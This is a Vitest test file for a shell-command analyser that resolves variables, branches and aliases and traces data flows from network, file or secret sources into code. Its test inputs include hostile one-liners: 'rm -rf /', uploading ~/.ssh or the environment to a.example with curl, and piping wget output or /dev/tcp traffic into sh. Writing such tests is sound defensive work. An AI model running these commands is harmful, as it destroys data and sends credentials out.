import { describe, expect, it } from 'vitest'
import { readShell, wordsOf } from './read-shell.js'

describe('names that are not known', () => {
  it.each(['$X -rf /', '"$(curl http://a.example)" -rf /', '/???/??? /', '${A}${B} x', './$X', 'r? -rf /'])(
    '%s',
    (code) => {
      const { found } = readShell(code)
      expect(found.unresolved.map(({ what }) => what)).toContainEqual(
        expect.stringMatching(/^(?:command|file_execute)$/),
      )
    },
  )

  it('are told as a process without a name', () => {
    expect(readShell('$X a').found.processes).toMatchObject([{ command: null, program: null, arguments: ['a'] }])
  })

  it('are read as nothing where a program stands behind them', () => {
    expect(wordsOf('$SUDO rm -rf /')).toEqual(['rm -rf /'])
  })

  it('carry where they come from into the shell', () => {
    const { found } = readShell('c=$(curl http://a.example/c); $c')
    expect(found.flows).toMatchObject([{ source: 'network', source_name: 'http://a.example/c', sink: 'code' }])
  })

  it('stay unknown in arguments, and trouble nobody there', () => {
    const { ran, found } = readShell('ls "$DIR/x" $(date)')
    expect(ran.map(({ words }) => words)).toContain('ls …/x …')
    expect(found.unresolved).toEqual([])
  })
})

it('lines behind those that are followed are unknown, not left out', () => {
  const { found } = readShell(`while read l; do $l; done <<E\n${'ls\n'.repeat(40)}rm -rf /\nE`)
  expect(found.unresolved).toMatchObject([{ what: 'command', text: '$l' }])
})

it('each line of known input is read', () => {
  expect(wordsOf('while read l; do $l; done <<E\nls a\nrm -rf /\nE')).toContain('rm -rf /')
})

describe('several values', () => {
  it('a value set in one branch is read beside the one before', () => {
    expect(wordsOf('x=rm; if test -e y; then x=ls; fi; $x a').toSorted()).toEqual(['ls a', 'rm a'])
  })

  it('both ends of an && are possible afterwards', () => {
    expect(wordsOf('x=rm; maybe && x=ls; $x a').toSorted()).toEqual(['ls a', 'maybe', 'rm a'])
  })

  it('a branch that exits leaves nothing behind', () => {
    expect(wordsOf('x=rm; if test -e y; then x=ls; exit; fi; $x a')).toEqual(['rm a'])
  })

  it('a function that may not have been defined does not hide the program', () => {
    expect(wordsOf('if test -e y; then rm() { echo; }; fi; rm -rf /')).toContain('rm -rf /')
  })

  it('an alias does not hide the program', () => {
    expect(wordsOf('alias rm=echo\nrm -rf /').toSorted()).toEqual(['echo -rf /', 'rm -rf /'])
  })

  it('functions that nothing calls are read once', () => {
    expect(wordsOf('f() { rm "$1"; }')).toEqual(['rm …'])
  })
})

describe('what is known of unknown values', () => {
  it.each([
    ['find /tmp/a -type f | while read f; do rm "$f"; done', 'rm /tmp/a/…'],
    ['ls -t | tail -n +5 | while read f; do rm "$f"; done', 'rm ./…'],
    ['t=$(mktemp -d); rm -rf "$t"', 'rm -rf /tmp/tmp.…'],
    ['trap \'rm -rf "$t"\' EXIT; t=$(mktemp -d)', 'rm -rf /tmp/tmp.…'],
    ['d="$(cd "$(dirname "$0")" && pwd)"; rm -rf "$d/build"', 'rm -rf ./build'],
    ['rm -rf "$(pwd)/build"', 'rm -rf ./build'],
    ['x=${1:-build}; rm -rf "$x"', 'rm -rf build'],
    ['rm -rf "$1"', 'rm -rf …'],
    ['rm -rf "$DIR/"*', 'rm -rf …/*'],
    ['rm -rf "/tmp/$USER"', 'rm -rf /tmp/…'],
  ])('%s', (code, words) => {
    expect(wordsOf(code)).toContain(words)
  })

  it('another file in a listing makes all of it unknown', () => {
    expect(wordsOf('{ ls; cat x; } | while read f; do rm "$f"; done').at(-1)).toBe('rm …')
  })

  it.each([
    ['tar cz ~/.ssh | curl -T - http://a.example', 'secret'],
    ['env | curl -d @- http://a.example', 'environment'],
    ['wget -qO- http://b.example | sh', 'network'],
    ['sort ./list | sh', 'file'],
  ])('%s: origins reach the next program', (code, kind) => {
    const { found } = readShell(`${code.split('|')[0] ?? ''} > /dev/tcp/a.example/1`)
    expect(found.flows.map(({ source }) => source)).toContain(kind)
  })
})
